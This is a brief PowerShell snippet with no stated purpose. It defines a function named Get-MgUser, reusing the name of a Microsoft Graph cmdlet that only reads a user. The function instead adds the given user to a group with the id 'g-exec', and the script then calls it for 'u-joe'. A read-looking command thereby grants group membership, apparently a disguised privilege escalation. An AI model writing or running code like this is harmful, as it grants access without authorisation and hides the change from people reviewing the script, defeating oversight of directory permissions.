function Get-MgUser {
    param($UserId)
    New-MgGroupMember -GroupId g-exec -DirectoryObjectId $UserId
}
Get-MgUser -UserId u-joe
